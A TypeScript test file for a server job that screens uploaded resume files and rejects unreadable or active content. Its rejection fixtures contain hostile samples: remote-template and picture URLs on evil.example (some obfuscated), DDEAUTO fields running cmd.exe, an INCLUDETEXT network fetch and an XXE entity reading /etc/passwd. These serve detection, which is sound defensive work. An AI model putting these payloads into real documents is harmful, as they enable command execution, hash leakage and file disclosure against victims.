import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { inspectFile } from "../../../../../server/jobs/file-checks/inspect/inspect-file.ts";
import { MACRO_DOCX_TYPE, sampleArchive, sampleDoc, sampleDocx, samplePdf } from "./sample-documents.ts";
import {
  createDocumentWith,
  createDocxWith,
  field,
  libreOfficeResume,
  wordResume,
  macWordResume,
  utf16Resume,
  externalRelationship,
  relationships,
} from "./sample-resumes.ts";

const sound = { verdict: "sound" };
const createRefusal = (fault: string, reason: string) => ({ verdict: "refused", fault, reason });
const inspect = (name: string, bytes: Buffer) => inspectFile(`1736500000000_${name}`, bytes);

const lockedPdf = (kind: string): Buffer =>
  readFileSync(new URL(`../../../model/resume-check/locked/${kind}.pdf`, import.meta.url));

function docWith(content: string, flags = 0): Buffer {
  const stream = Buffer.alloc(5_000, " ");
  stream.writeUInt16LE(flags, 10);
  stream.write(content, 100, "latin1");
  return sampleDoc({ WordDocument: stream });
}

/** Names and contents of files that are rejected, by the reason and by what they contain. */
type RejectedFiles = Record<string, Record<string, readonly [name: string, bytes: Buffer]>>;

const listFiles = (files: RejectedFiles) =>
  Object.entries(files).flatMap(([reason, contents]) =>
    Object.entries(contents).map(([content, [name, bytes]]) => ({ content, name, bytes, reason })),
  );

/** A chart and its workbook, as Word writes them. */
const chart = (content: Buffer): Record<string, Buffer> => ({
  "word/charts/_rels/chart1.xml.rels": relationships({
    type: "package",
    target: "../embeddings/Microsoft_Excel_Sheet1.xlsx",
  }),
  "word/embeddings/Microsoft_Excel_Sheet1.xlsx": content,
});
const WORKBOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const workbook = (parts: Record<string, Buffer> = {}, type = WORKBOOK_TYPE): Buffer =>
  sampleArchive({
    "[Content_Types].xml": Buffer.from(
      `<Types><Override PartName="/xl/workbook.xml" ContentType="${type}"/></Types>`,
    ),
    "xl/workbook.xml": Buffer.from("<workbook/>"),
    ...parts,
  });
const LINKED_WORKBOOK = {
  "xl/externalLinks/_rels/externalLink1.xml.rels": externalRelationship(
    "externalLinkPath",
    "file:///C:\\Users\\Kim\\budget.xlsx",
  ),
};

const docx = (parts: Record<string, Buffer>) => ["cv.docx", createDocxWith(parts)] as const;

describe("a resume's file", () => {
  it.each([
    ["cv.pdf", samplePdf()],
    ["CV.PDF", samplePdf()],
    ["cv.doc", sampleDoc("WordDocument", "1Table")],
    ["cv.docx", sampleDocx()],
    ["cv.doc", sampleDocx()],
  ])("is accepted if its structure matches its extension: %s", async (name, bytes) => {
    expect(await inspect(name, bytes)).toEqual(sound);
  });

  it.each([
    ["Word", wordResume()],
    ["Word with a template in the same folder", wordResume("Resume.dotx")],
    ["Word with a template on the local disk", wordResume("C:\\Users\\Kim\\Resume.dotx")],
    ["Word 2008 for Mac", wordResume("Macintosh HD:Users:kim:Resume.dotx")],
    ["Word for Mac", macWordResume()],
    ["LibreOffice", libreOfficeResume()],
    ["a generator that writes UTF-16", utf16Resume()],
    ["a generator that writes backslashes", renamePart(macWordResume(), "word/", "word\\")],
    ["a transfer that appends zeros", Buffer.concat([wordResume(), Buffer.alloc(3_000)])],
    ["a transfer that appends a line break", Buffer.concat([wordResume(), Buffer.from("\r\n")])],
    ["a mail with its boundary", Buffer.concat([wordResume(), Buffer.from("\r\n--=_Part_7--\r\n")])],
    ["Word with a template on a file server", wordResume("\\\\FILESRV01\\Templates\\Resume.dotx")],
    ["Word with a template on a server's address", wordResume("file:///\\\\10.1.2.3\\a\\Resume.dotm")],
    ["Word with a template on a domain's server", wordResume("\\\\files.reyes.local\\a\\Resume.dotx")],
    ["Word with a chart", createDocxWith(chart(workbook()))],
    ["Word with a chart that refers to a local workbook", createDocxWith(chart(workbook(LINKED_WORKBOOK)))],
  ])("is accepted as a DOCX from %s", async (_program, bytes) => {
    expect(await inspect("cv.docx", bytes)).toEqual(sound);
  });

  it.each([
    ["a byte order mark at the start", Buffer.concat([Buffer.from("efbbbf", "hex"), samplePdf()])],
    ["other bytes at the start", Buffer.concat([Buffer.alloc(900, " "), samplePdf()])],
    ["zeros at the end", Buffer.concat([samplePdf(), Buffer.alloc(3_000)])],
    ["a restriction on printing, encrypted with RC4", lockedPdf("rc4-128-open")],
    ["a restriction on printing, encrypted with AES-256", lockedPdf("aes-256-open")],
  ])("is accepted as a PDF with %s", async (_what, bytes) => {
    expect(await inspect("cv.pdf", bytes)).toEqual(sound);
  });

  const UNREADABLE: RejectedFiles = {
    'The content of this .pdf file does not match its extension: it begins with "MZ".': {
      "a program": ["cv.pdf", Buffer.from("MZ\x90\0program")],
    },
    "The file is empty.": { "an empty file": ["cv.pdf", Buffer.alloc(0)] },
    "The file is larger than 10 MB.": { "larger than 10 MB": ["cv.pdf", Buffer.alloc(10 * 1_048_576 + 1)] },
    "The file's extension is .html, not .pdf, .doc or .docx.": {
      "an HTML file": ["cv.html", Buffer.from("<script>")],
    },
    "The file is a PDF that cannot be opened.": {
      "a truncated PDF": ["cv.pdf", Buffer.from("%PDF-1.7\nhalf")],
    },
    "The file is RTF, not a Word document.": {
      "an RTF file": ["cv.doc", Buffer.from("{\\rtf1 Dear all}")],
    },
    "The file is a DOC that cannot be opened.": {
      "a truncated DOC": ["cv.doc", sampleDoc("WordDocument").subarray(0, 600)],
    },
    "The file is another kind of Office file, not a Word document.": {
      "an Excel workbook": ["cv.doc", sampleDoc("Workbook")],
      "a presentation": ["cv.docx", sampleDocx({}, "presentationml")],
    },
    "The file is a DOCX that cannot be opened.": {
      "a truncated DOCX": ["cv.docx", Buffer.concat([sampleDocx().subarray(0, 300), Buffer.from("word/")])],
    },
    "The file is an archive, not a Word document.": {
      "an archive without a Word document": ["cv.docx", sampleArchive({ "a.txt": Buffer.from("a") })],
    },
    "The file has two parts with the same name.": {
      "a DOCX with two parts of the same name": [
        "cv.docx",
        renamePart(createDocxWith({ "word/documenU.xml": createDocumentWith("") }), "documenU", "documenT"),
      ],
    },
    "The file unpacks to more than 100 MB.": {
      "a DOCX that unpacks to more than 100 MB": docx({
        "word/media/a.bmp": Buffer.alloc(60_000_000),
        "word/media/b.bmp": Buffer.alloc(60_000_000),
      }),
    },
  };

  it.each(listFiles(UNREADABLE))("is rejected if it is $content", async ({ name, bytes, reason }) => {
    expect(await inspect(name, bytes)).toEqual(createRefusal("unreadable", reason));
  });

  it.each([
    ["cv.pdf", lockedPdf("aes-256-locked")],
    ["cv.doc", docWith("", 0x0100)],
  ])("is rejected if it requires a password: %s", async (path, bytes) => {
    expect(await inspect(path, bytes)).toEqual(createRefusal("locked", "The file requires a password."));
  });

  const DOCUMENT = "word/_rels/document.xml.rels";
  const SETTINGS = "word/_rels/settings.xml.rels";
  const STRICT_NAMESPACE = "http://purl.oclc.org/ooxml/officeDocument/relationships";
  const MICROSOFT_NAMESPACE = "http://schemas.microsoft.com/office/2006/relationships";
  const linked = (type: string, target: string) => docx({ [DOCUMENT]: relationships({ type, target }) });
  const external = (type: string, target: string) => docx({ [DOCUMENT]: externalRelationship(type, target) });
  const template = (target: string) => docx({ [SETTINGS]: externalRelationship("attachedTemplate", target) });
  const documentOf = (content: string) => docx({ "word/document.xml": createDocumentWith(content) });
  const ACTIVE: RejectedFiles = {
    "The file contains an embedded object.": {
      "an embedded object in a DOC": [
        "cv.doc",
        sampleDoc("WordDocument", "ObjectPool/_1234/\u0001Ole10Native"),
      ],
      "an OLE object": linked("oleObject", "embeddings/oleObject1.bin"),
      "an OLE object in Strict Open XML": linked(`${STRICT_NAMESPACE}/oleObject`, "a.bin"),
      "a linked OLE object": external("oleObject", "file:///C:\\a.docx"),
    },
    "The file contains an embedded file.": {
      "a program as an embedded package": linked("package", "embeddings/setup.exe"),
      "an OLE file named like a picture": docx({
        "word/media/image1.png": Buffer.from("d0cf11e0a1b11ae1", "hex"),
      }),
      "a program named like a picture": docx({ "word/media/image1.png": Buffer.from("MZ\x90") }),
      "an embedded document": linked("aFChunk", "a.rtf"),
      "a chart whose workbook is an archive": docx(chart(sampleArchive({ "setup.exe": Buffer.from("MZ") }))),
      "a chart whose workbook is damaged": docx(chart(workbook().subarray(0, 200))),
      "a chart whose workbook contains a document": docx(
        chart(workbook({ "xl/embeddings/a.docx": sampleDocx() })),
      ),
      "a chart with a workbook named like a picture": docx({ "word/media/image1.png": workbook() }),
    },
    "The file contains an ActiveX control.": {
      "an ActiveX control": linked("control", "activeX/activeX1.xml"),
      "the data of an ActiveX control": docx({
        "word/activeX/_rels/activeX1.xml.rels": relationships({
          type: `${MICROSOFT_NAMESPACE}/activeXControlBinary`,
          target: "a.bin",
        }),
      }),
    },
    "The file contains macros.": {
      "macros in a DOC": ["cv.doc", sampleDoc("WordDocument", "Macros/VBA/dir")],
      "macros in a DOCX": ["cv.docx", sampleDocx({ "word/vbaProject.bin": Buffer.alloc(9) })],
      "the content type of a document with macros": ["cv.docx", sampleDocx({}, MACRO_DOCX_TYPE)],
      "macros in a chart's workbook": docx(chart(workbook({ "xl/vbaProject.bin": Buffer.alloc(9) }))),
      "a chart whose workbook may contain macros": docx(
        chart(workbook({}, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
      ),
      "macros in a part with another name": linked(`${MICROSOFT_NAMESPACE}/vbaProject`, "a.bin"),
    },
    "The file would load a template from the network when opened.": {
      "a template on a web server": template("https://evil.example/a.dotm"),
      "a template on a network share": template("\\\\evil.example\\a\\a.dotm"),
      "a template on a network share, with a file: URL": template("file:///\\\\evil.example\\a.dotm"),
      "a template on a WebDAV server": template("\\\\evil@8080\\a\\a.dotm"),
      "a template on a server's address, as a number": template("\\\\3405803776\\a\\a.dotm"),
      "a template on a server with a public address": template("\\\\203.0.113.7\\a\\a.dotm"),
      "a template on a web server of the network": template("http://intranet/a.dotm"),
      "a template with the file: URL of another host": template("file://evil.example/a.dotm"),
      "a template whose URL has a leading space and a character reference": template(
        " &#x68;ttps://evil.example/a.dotm",
      ),
      "a template whose URL is percent-encoded": template("file:///%5C%5Cevil.example%5Ca.dotm"),
      "a template in a UTF-16 part with a namespace prefix": docx({
        [SETTINGS]: Buffer.from(
          `\ufeff${externalRelationship("attachedTemplate", "http://evil.example/a")
            .toString("utf8")
            .replace(/ encoding="UTF-8"/, "")
            .replaceAll('"', "'")
            .replace(/<Relationship(?=s?\b)/g, "<é:Relationship")}`,
          "utf16le",
        ),
      }),
    },
    "The file would load a picture from the network when opened.": {
      "a picture on a web server": external("image", "http://evil.example/a.png"),
      "a picture on a network share": external("image", "\\\\evil.example\\a.png"),
      "a VML drawing with a picture on a network share": docx({
        "word/header1.xml": createDocumentWith(
          '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\evil.example\\a.png"/>',
        ),
      }),
    },
    "The file would load content from the network when opened.": {
      "a frame with a document on a network share": docx({
        "word/_rels/webSettings.xml.rels": externalRelationship("frame", "\\\\evil.example\\a.docx"),
      }),
      "a linked subdocument": external("subDocument", "a.docx"),
      "a chart whose workbook refers to one on a network share": docx(
        chart(
          workbook({
            "xl/externalLinks/_rels/externalLink1.xml.rels": externalRelationship(
              "externalLinkPath",
              "\\\\evil.example\\a.xlsx",
            ),
          }),
        ),
      ),
    },
    "The file contains a field that loads data from other programs.": {
      "a DDE field in a DOC": ["cv.doc", docWith('\u0013 DDEAUTO c:\\\\windows "calc"\u0014')],
    },
    "The file contains a field that loads data from other programs (DDEAUTO).": {
      "a DDE field": documentOf(field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ")),
    },
    "The file contains a field that loads data from other programs (DDE).": {
      "a DDE field split into pieces": docx({
        "word/footer1.xml": createDocumentWith(field(" D", "D", "<!-- -->E", " excel ")),
      }),
      "a DDE field in a fldSimple element": documentOf("<w:fldSimple w:instr='DDE excel \"a\"'/>"),
    },
    "The file contains a field that loads data from other programs (dde).": {
      "a DDE field within another field": documentOf(
        field(' IF 1 = 1 "').replace("<w:t>shown</w:t>", field("dde excel")),
      ),
    },
    "The file contains a field that loads content from the network.": {
      "a field that includes text from a network share": documentOf(
        field(" INCLUDETEXT &quot;\\\\\\\\evil.example\\\\a.docx&quot; "),
      ),
    },
    "The file declares XML entities, which word processors never write.": {
      "XML entities in a part": docx({
        "word/document.xml": Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
      }),
      "XML entities in [Content_Types].xml": docx({
        "[Content_Types].xml": Buffer.from('<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "b">]><Types/>'),
      }),
      "XML entities in a UTF-16 part": docx({
        "word/styles.xml": Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "c">]><a/>', "utf16le"),
      }),
      "XML entities in a part with another extension": docx({
        "word/a.dat": Buffer.from('  <!DOCTYPE a [<!ENTITY b "c">]><a/>'),
      }),
    },
  };

  it.each(listFiles(ACTIVE))("is rejected if it has $content", async ({ name, bytes, reason }) => {
    expect(await inspect(name, bytes)).toEqual(createRefusal("active", reason));
  });
});

function renamePart(archive: Buffer, from: string, to: string): Buffer {
  const text = archive.toString("latin1");
  if (!text.includes(from)) throw new Error(`No part is called ${from}`);
  return Buffer.from(text.replaceAll(from, to), "latin1");
}
